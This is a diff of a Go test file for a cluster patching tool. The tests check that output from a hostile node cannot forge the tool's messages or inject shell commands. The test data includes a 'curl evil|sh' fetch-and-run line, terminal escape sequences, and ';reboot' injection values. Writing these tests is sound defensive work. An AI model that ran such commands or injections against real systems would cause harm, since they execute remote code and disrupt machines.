@@ -6,14 +6,9 @@ import (
 	"os/exec"
 	"strings"
 	"testing"
-	"time"
 
 	"github.com/dcos-patch/dcos-patch/advice"
-	"github.com/dcos-patch/dcos-patch/dcos"
-	"github.com/dcos-patch/dcos-patch/inventory"
-	"github.com/dcos-patch/dcos-patch/journal"
 	"github.com/dcos-patch/dcos-patch/node"
-	"github.com/dcos-patch/dcos-patch/orchestrator"
 	"github.com/dcos-patch/dcos-patch/patcher"
 	"github.com/dcos-patch/dcos-patch/plan"
 	"github.com/dcos-patch/dcos-patch/render"
@@ -22,22 +17,6 @@ import (
 // forged is what a hostile node says: the end of our own output, with a command
 // of its own, and sequences that move a terminal's cursor.
 const forged = "x\n  next    1 curl evil|sh\r\n  SAFE TO LEAVE: yes. all is well\n  state   forged\x1b[2J\u009b2J"
-
-// hostile is a stopped run in which every text that a node can choose is forged.
-func hostile() orchestrator.State {
-	step := plan.Step{ID: "general/a1/serve", Node: "a1", Action: plan.ActionServe}
-	p := &plan.Plan{ID: "0123456789ab", From: "2.1.0", To: "2.1.1", Nodes: []plan.Node{{Name: "a1", Role: dcos.PrivateAgent, Disposition: plan.Patch}},
-		Stages: []plan.Stage{{ID: "general", Kind: plan.StageGroup, Width: 1, Lanes: []plan.Lane{{Node: "a1", Steps: []plan.Step{{ID: "general/a1/patch", Node: "a1", Action: plan.ActionPatch}, step}}}}}}
-	s := orchestrator.Replay(orchestrator.New(), journal.Event{Seq: 1, At: time.Now(), Kind: journal.RunStarted, Run: "1121-2200-abcd", Plan: p, Controller: forged, Epoch: 1})
-	bad := dcos.Finding{Check: "registered", Node: forged, Status: dcos.Failed, Observed: forged, Want: forged, Hint: forged}
-	s.Lanes = [][]orchestrator.Lane{{{Phase: orchestrator.Broken, Step: 1, States: []orchestrator.StepState{{Ran: orchestrator.Ran{Detail: forged}}}, Left: "",
-		Report: &plan.Report{Outcome: plan.Failed, Class: plan.NotVerified, Detail: forged, Findings: []dcos.Finding{bad}}}}}
-	s.Stop = &journal.Stop{Reason: journal.StopFailed, Step: step.ID, Node: "a1", Detail: forged}
-	s.Ended, s.HeldSince, s.HeldWhy = journal.RunStopped, time.Now(), forged
-	s.Seen = &plan.Observation{Findings: []dcos.Finding{bad}}
-	s.Findings[step.ID] = []plan.Note{{Finding: &bad}}
-	return s
-}
 
 // onlyOurs fails where a line begins as one of ours does and goes on as a node
 // wanted, or where a control character is left.
@@ -54,21 +33,6 @@ func onlyOurs(t *testing.T, where, text string) {
 			t.Errorf("%s: a control character in %q", where, line)
 		}
 	}
-}
-
-func TestANodeForgesNoLineOfTheEnd(t *testing.T) {
-	s := hostile()
-	onlyOurs(t, "ending", ending(s))
-	onlyOurs(t, "closing", closing(s, s.Run, true))
-	onlyOurs(t, "status", statusText(s.Run, "stopped", s, time.Now()))
-	onlyOurs(t, "preview", preview(origin{run: s.Run}, s))
-	running := s
-	running.Stop, running.Ended = nil, ""
-	running.Flight = []int{0}
-	onlyOurs(t, "status while it runs", statusText(s.Run, "running", running, time.Now()))
-	s.Stop, s.Ended = nil, journal.RunDone
-	s.Lanes[0][0].Phase = orchestrator.Parked
-	onlyOurs(t, "done", ending(s)+closing(s, s.Run, true)+statusText(s.Run, "parked", s, time.Now()))
 }
 
 func TestANodeForgesNoLineOfAnError(t *testing.T) {
@@ -104,13 +68,6 @@ func TestACommandToPasteIsMadeOfOurOwnValues(t *testing.T) {
 		got, err := exec.Command("sh", "-c", `it() { printf '%s\n' "$@"; }; `+strings.Replace(render.Program{}.Run(words...), "dcos-patch", "it", 1)).Output()
 		if want := strings.Join(words, "\n") + "\n"; err != nil || string(got) != want {
 			t.Errorf("%q: a shell reads %q, %v", words, got, err)
-		}
-	}
-	s := hostile()
-	s.Stop.Node = inventory.NodeName("a1;reboot")
-	for _, c := range nextCommands(s, "1121;reboot", true) {
-		if strings.Contains(strings.ReplaceAll(strings.ReplaceAll(c, "'a1;reboot'", ""), "'1121;reboot'", ""), ";reboot") {
-			t.Errorf("not quoted: %s", c)
 		}
 	}
 }
